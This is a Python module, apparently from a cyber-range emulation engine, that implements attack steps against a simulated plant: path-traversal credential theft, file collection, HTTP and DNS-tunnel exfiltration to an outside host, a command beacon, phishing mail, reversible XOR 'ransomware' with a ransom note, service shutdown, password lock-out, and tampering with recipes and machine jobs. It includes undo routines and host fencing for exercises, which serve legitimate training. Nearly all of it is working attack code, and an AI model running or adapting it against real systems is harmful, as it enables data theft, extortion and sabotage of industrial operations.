"""Data: reading what is worth stealing, carrying it out, and destroying it for ransom.

Ransomware here is a renamed XOR of files that the scenario lists by name, in a share of the lab; each original is kept
in memory and put back by `undo`. Nothing walks a folder, nothing touches a file that was not named.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import itertools
import json
import random
import struct
import time
import urllib.parse
from collections.abc import Mapping
from typing import Any

from cyber_range.engine.attack.intruder import Intruder
from cyber_range.engine.attack.registry import step
from cyber_range.engine.attack.ways import Blocked, Evidence

PATIENCE = 6.0
MOST_FILES = 60
LARGEST_FILE = 512 * 1024
DNS_LABEL = 60  # characters; 63 are allowed
DNS_CARRIES = 110  # bytes of a question: three labels of base32; the whole name stays below 253 characters
LOCKED = ".locked"
RESTARTS_WITHIN = 40.0  # s for an application that undo starts again


async def http(
    intruder: Intruder, evidence: Evidence, host: str, port: int, method: str, path: str,
    body: bytes = b"", login: tuple[str, str] | None = None,
) -> tuple[int, bytes]:  # fmt: skip
    """(status, body) of one request through the way in; Blocked when the server is not reached."""
    channel = await intruder.channel(host, port)
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", f"Content-Length: {len(body)}",
             "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)"]  # fmt: skip
    if login is not None:
        lines.append("Authorization: Basic " + base64.b64encode(":".join(login).encode()).decode())
    request = "\r\n".join(lines).encode() + b"\r\n\r\n" + body
    try:
        await channel.send(request)
        answer = await channel.rest(PATIENCE)
    except (TimeoutError, OSError, EOFError) as exc:
        raise Blocked(f"{host}:{port} broke off ({type(exc).__name__})") from exc
    finally:
        channel.close()
    evidence.sent += len(request)
    evidence.received += len(answer)
    head, _, content = answer.partition(b"\r\n\r\n")
    words = head.split(b" ", 2)
    if len(words) < 2 or not words[1].isdigit():
        raise Blocked(f"{host}:{port} gave no answer")
    return int(words[1]), content


def login_of(intruder: Intruder, args: Mapping[str, Any]) -> tuple[str, str] | None:
    """The step's own user and password, else the one an earlier step found."""
    if args.get("user"):
        return str(args["user"]), str(args.get("password", ""))
    found = intruder.loot.get("login")
    if found:
        user, _, password = found.decode().partition(":")
        return user, password
    return None


def server_of(intruder: Intruder, args: Mapping[str, Any], port: int) -> tuple[str, int]:
    return intruder.fence.check(str(args["host"])), int(args.get("port", port))


def taken_back(host: str, status: int) -> None:
    """Blocked when an undoing was not taken, so that it is tried again; 404: it is gone already."""
    if status >= 300 and status != 404:
        raise Blocked(f"{host} did not take it back (status {status})")


def quoted(path: str) -> str:
    """Percent-encoded as a browser would send it (RFC 3986, 2.1)."""
    return urllib.parse.quote(path, safe="/._-~?=&")


@step("collect", "T0893", "T0811", "T0882", "T0802", needs=("session",), gains=("loot",))
async def collect(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Reads named documents of a share or application. Gains the loot."""
    host, port = server_of(intruder, args, 8080)
    taken: dict[str, Any] = {}
    for path in list(args["paths"])[:MOST_FILES]:
        status, body = await http(
            intruder, evidence, host, port, "GET", quoted(str(path)), login=login_of(intruder, args)
        )
        if status in (401, 403):
            raise Blocked(f"{host} refused the account")
        if status == 200:
            intruder.loot[str(path)] = body
            taken[str(path)] = {"bytes": len(body), "sha256": hashlib.sha256(body).hexdigest()[:16]}
    evidence.facts |= {"target": host, "port": port, "taken": taken}
    if not taken:
        raise Blocked(f"{host} gave none of the documents")


@step("exploit_download", "T0819", "T0866", needs=("session",), gains=("app_login",))
async def exploit_download(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """A download address that does not check its path gives away the application's settings. Gains a login."""
    host, port = server_of(intruder, args, 8081)
    status, body = await http(intruder, evidence, host, port, "GET", "/download?file=../config.ini")
    evidence.facts |= {"target": host, "port": port, "status": status}
    settings = dict(line.split("=", 1) for line in body.decode("utf-8", "replace").splitlines() if "=" in line)
    if status != 200 or "user" not in settings:
        raise Blocked(f"{host} no longer gives its settings away")
    intruder.loot["login"] = f"{settings['user'].strip()}:{settings.get('password', '').strip()}".encode()
    evidence.facts["user"] = settings["user"].strip()


@step("exfil_http", "T0882", "T0869", "T0885", needs=("loot",))
async def exfil_http(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Posts the loot to a host outside, from this machine."""
    host, port = server_of(intruder, args, 80)
    names = [str(name) for name in args.get("names") or intruder.loot if name != "login"]
    size = 0
    for _ in range(max(1, int(args.get("copies", 1)))):
        for name in names:
            body = intruder.loot.get(name, b"")
            status, _ = await http(intruder, evidence, host, port, "POST", quoted(f"/upload/{len(body)}"), body)
            if status >= 400:
                raise Blocked(f"{host} refused the upload")
            size += len(body)
    evidence.facts |= {"target": host, "port": port, "names": names, "bytes": size}


@step("exfil_dns", "T0885", "T0869", "T0882", needs=("loot",))
async def exfil_dns(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Carries the loot out in questions to the office's own name server, a few bytes each."""
    resolver, domain = intruder.fence.check(str(args["resolver"])), str(args["domain"]).strip(".")
    names = [str(name) for name in args.get("names") or intruder.loot if name != "login"]
    pause, most = float(args.get("pause", 0.02)), int(args.get("most", 400))
    data = b"".join(intruder.loot.get(name, b"") for name in names)
    asked = refused = 0
    session = f"{random.SystemRandom().getrandbits(20):05x}"
    for number, at in enumerate(range(0, len(data), DNS_CARRIES)):
        if number >= most:
            break
        coded = base64.b32encode(data[at : at + DNS_CARRIES]).decode().rstrip("=").lower()
        labels = [coded[i : i + DNS_LABEL] for i in range(0, len(coded), DNS_LABEL)]
        question = txt_question(".".join([*labels, f"{session}-{number}", domain]), number)
        evidence.sent += len(question)
        try:
            answer = await intruder.toolbox.ask(resolver, 53, question, 2.0)
        except (TimeoutError, OSError):
            refused += 1
        else:
            asked += 1
            evidence.received += len(answer)
            refused += answer[3] & 0xF != 0
        if refused > 8:
            break
        await asyncio.sleep(pause)
    evidence.facts |= {
        "resolver": resolver,
        "domain": domain,
        "questions": asked,
        "bytes": len(data),
        "refused": refused,
    }
    if refused > 8 or not asked:
        raise Blocked(f"questions for {domain} are no longer answered")


def txt_question(name: str, ident: int) -> bytes:
    """A DNS query for a TXT record (RFC 1035, 4.1)."""
    coded = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", ident & 0xFFFF, 0x0100, 1, 0, 0, 0) + coded + b"\0" + struct.pack(">HH", 16, 1)


@step("beacon", "T0869", "T0885", needs=("session",))
async def beacon(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Asks a host outside for orders, again and again at the same interval. Goes on after the step ended."""
    host, port = server_of(intruder, args, 80)
    every, times = float(args.get("every", 5)), min(2000, int(args.get("times", 200)))
    path = quoted(str(args.get("path", "/update/check")))
    status, _ = await http(intruder, evidence, host, port, "GET", path)
    evidence.facts |= {"target": host, "port": port, "every": every, "status": status}

    async def keep_asking() -> None:
        heard, own = 0, Evidence()
        for _ in range(times):
            await asyncio.sleep(every)
            try:
                await http(intruder, own, host, port, "GET", path)
                heard += 1
            except Blocked:
                continue
        intruder.tell("beacon_ended", {"target": host, "heard": heard, **own.as_dict()})

    intruder.go_on("beacon", keep_asking())


@step("phish", "T0865", "T0863")
async def phish(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """A mail with a lure to people of the plant, handed to its own mail server. Needs no session: mail comes to all."""
    host, port = server_of(intruder, args, 25)
    if "session" not in intruder.knows:
        intruder.enter(intruder.toolbox.direct())
    channel = await intruder.channel(host, port)
    to = [str(one) for one in args["to"]]
    head = [f"From: {args['sender']}", f"To: {', '.join(to)}", f"Subject: {args['subject']}",
            "Content-Type: text/plain; charset=utf-8", ""]  # fmt: skip
    text = "\r\n".join([*head, str(args["text"]), "."])
    lines = [
        "EHLO mx.example",
        f"MAIL FROM:<{args['sender']}>",
        *(f"RCPT TO:<{one}>" for one in to),
        "DATA",
        text,
        "QUIT",
    ]
    try:
        await channel.line(PATIENCE)
        for line in lines:
            raw = line.encode() + b"\r\n"
            await channel.send(raw)
            evidence.sent += len(raw)
            said = await channel.line(PATIENCE)
            evidence.received += len(said)
            if said[:1] not in (b"2", b"3"):
                raise Blocked(f"the mail server refused: {said.decode('utf-8', 'replace').strip()}")
    except (TimeoutError, OSError, EOFError) as exc:
        raise Blocked(f"{host}:{port} broke off ({type(exc).__name__})") from exc
    finally:
        channel.close()
    evidence.facts |= {"target": host, "to": to, "subject": str(args["subject"])}


@step("drop", "T0867", needs=("session",))
async def drop(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Puts a tool (a harmless text that says what it plays) on a share, for the next machine to fetch."""
    host, port = server_of(intruder, args, 8080)
    path, login = quoted(str(args["path"])), login_of(intruder, args)
    body = str(args.get("text", "EXERCISE: stands for the intruder's tool; harmless.")).encode()
    status, _ = await http(intruder, evidence, host, port, "PUT", path, body, login)
    evidence.facts |= {"target": host, "path": str(args["path"]), "sha256": hashlib.sha256(body).hexdigest()}
    if status >= 300:
        raise Blocked(f"{host} refused the file (status {status})")

    async def take_away(told: Evidence) -> dict[str, Any]:
        status, _ = await http(intruder, told, host, port, "DELETE", path, login=login)
        taken_back(host, status)
        return {"target": host, "removed": str(args["path"])}

    intruder.undo_with((host, port, path), take_away)


@step("encrypt", "T0809", "T0828", needs=("session",))
async def encrypt(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Overwrites the named files of a share for ransom. Reversible: the originals are kept and `undo` puts them back."""
    host, port = server_of(intruder, args, 8080)
    folder, login = "/" + str(args["folder"]).strip("/") + "/", login_of(intruder, args)
    files = [str(name) for name in args["files"]][:MOST_FILES]
    if stray := [name for name in files if not name.startswith(folder)]:
        raise ValueError(f"{stray[0]} does not lie in {folder}: only files of that folder may be touched")
    key = hashlib.sha256(str(args.get("key", "exercise")).encode()).digest()
    hit = []
    for name in files:
        status, body = await http(intruder, evidence, host, port, "GET", quoted(name), login=login)
        if status in (401, 403):
            raise Blocked(f"{host} refused the account")
        if status != 200 or len(body) > LARGEST_FILE:
            continue
        mixed = bytes(a ^ b for a, b in zip(body, itertools.cycle(key), strict=False))
        status, _ = await http(intruder, evidence, host, port, "PUT", quoted(name + LOCKED), mixed, login)
        if status >= 300:
            raise Blocked(f"{host} refused to be written to (status {status})")
        await http(intruder, evidence, host, port, "DELETE", quoted(name), login=login)
        intruder.undo_with((host, port, name), put_back(intruder, host, port, name, body, login))
        hit.append(name)
    if hit and args.get("note"):
        note = folder + "README_" + hashlib.sha256(key).hexdigest()[:6].upper() + ".txt"
        await http(intruder, evidence, host, port, "PUT", quoted(note), str(args["note"]).encode(), login)
    evidence.facts |= {"target": host, "folder": folder, "files": hit}
    if not hit:
        raise Blocked(f"{host} has none of these files any more")


def put_back(intruder: Intruder, host: str, port: int, name: str, body: bytes, login: tuple[str, str] | None) -> Any:
    async def restore(told: Evidence) -> dict[str, Any]:
        status, _ = await http(intruder, told, host, port, "PUT", quoted(name), body, login)
        taken_back(host, status)
        await http(intruder, told, host, port, "DELETE", quoted(name + LOCKED), login=login)
        return {"target": host, "restored": name}

    return restore


@step("stop_service", "T0881", "T0826", needs=("session",))
async def stop_service(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Stops a business application by its own administration page."""
    host, port = server_of(intruder, args, 8081)
    login = login_of(intruder, args)
    status, _ = await http(intruder, evidence, host, port, "POST", "/admin/stop", login=login)
    evidence.facts |= {"target": host, "status": status}
    if status >= 300:
        raise Blocked(f"{host} refused the account (status {status})")

    async def start_again(told: Evidence) -> dict[str, Any]:
        status, _ = await http(intruder, told, host, port, "POST", "/admin/restart", login=login)
        taken_back(host, status)
        until = time.monotonic() + RESTARTS_WITHIN
        while time.monotonic() < until:  # what else is to be put back needs it running
            status, _ = await http(intruder, told, host, port, "GET", "/health")
            if status == 200:
                return {"target": host, "restarted": True}
            await asyncio.sleep(0.25)
        return {"target": host, "restarted": False}

    intruder.undo_with((host, port, "service"), start_again)


@step("change_password", "T0892", needs=("session",))
async def change_password(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Locks the owners out of an account by giving it another password."""
    host, port = server_of(intruder, args, 8081)
    login = login_of(intruder, args)
    user, new = str(args["account"]), str(args["new"])
    path = quoted(f"/accounts/{user}/password")
    status, _ = await http(intruder, evidence, host, port, "PUT", path, new.encode(), login)
    evidence.facts |= {"target": host, "account": user, "status": status}
    if status >= 300:
        raise Blocked(f"{host} refused the account (status {status})")
    if args.get("old"):
        old, own = str(args["old"]), (user, new) if login and login[0] == user else login

        async def give_back(told: Evidence) -> dict[str, Any]:
            status, _ = await http(intruder, told, host, port, "PUT", path, old.encode(), own)
            taken_back(host, status)
            return {"target": host, "account": user}

        intruder.undo_with((host, port, path), give_back)


@step("tamper_document", "T0836", "T0889", "T0831", "T0873", "T0862", needs=("session",))
async def tamper_document(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Replaces a recipe or machine program that the plant works from."""
    host, port = server_of(intruder, args, 8081)
    path, login = quoted(str(args["path"])), login_of(intruder, args)
    status, before = await http(intruder, evidence, host, port, "GET", path, login=login)
    if status != 200:
        raise Blocked(f"{host} does not give {args['path']} (status {status})")
    after = str(args["text"]).encode()
    status, _ = await http(intruder, evidence, host, port, "PUT", path, after, login)
    evidence.facts |= {
        "target": host, "path": str(args["path"]), "before": hashlib.sha256(before).hexdigest()[:16],
        "after": hashlib.sha256(after).hexdigest()[:16],
    }  # fmt: skip
    if status >= 300:
        raise Blocked(f"{host} refused the change (status {status})")

    async def original(told: Evidence) -> dict[str, Any]:
        status, _ = await http(intruder, told, host, port, "PUT", path, before, login)
        taken_back(host, status)
        return {"target": host, "restored": str(args["path"])}

    intruder.undo_with((host, port, path), original)


@step("set_job", "T0821", "T0836", needs=("session",))
async def set_job(intruder: Intruder, args: Mapping[str, Any], evidence: Evidence) -> None:
    """Tells a machine to run another program than the one that was planned."""
    host, port = server_of(intruder, args, 8081)
    login = login_of(intruder, args)
    machine, path = str(args["machine"]), quoted(f"/jobs/{args['machine']}")
    status, listed = await http(intruder, evidence, host, port, "GET", "/jobs", login=login)
    before = json.loads(listed).get(machine) if status == 200 else None
    status, _ = await http(intruder, evidence, host, port, "PUT", path, str(args["document"]).encode(), login)
    evidence.facts |= {"target": host, "machine": str(args["machine"]), "document": str(args["document"])}
    if status >= 300:
        raise Blocked(f"{host} refused the change (status {status})")
    if before is None:
        return

    async def planned(told: Evidence) -> dict[str, Any]:
        status, _ = await http(intruder, told, host, port, "PUT", path, str(before).encode(), login)
        taken_back(host, status)
        return {"target": host, "machine": machine, "document": before}

    intruder.undo_with((host, port, path), planned)
